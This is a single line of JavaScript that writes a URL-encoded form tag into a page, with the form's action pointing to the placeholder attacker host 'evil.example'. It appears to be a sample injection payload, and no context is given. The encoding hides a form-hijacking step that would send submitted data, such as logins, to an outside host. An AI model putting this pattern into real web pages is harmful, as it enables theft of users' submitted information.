document.write(unescape('%3Cform%20action%3Dhttps%3A//evil.example/%3E'));
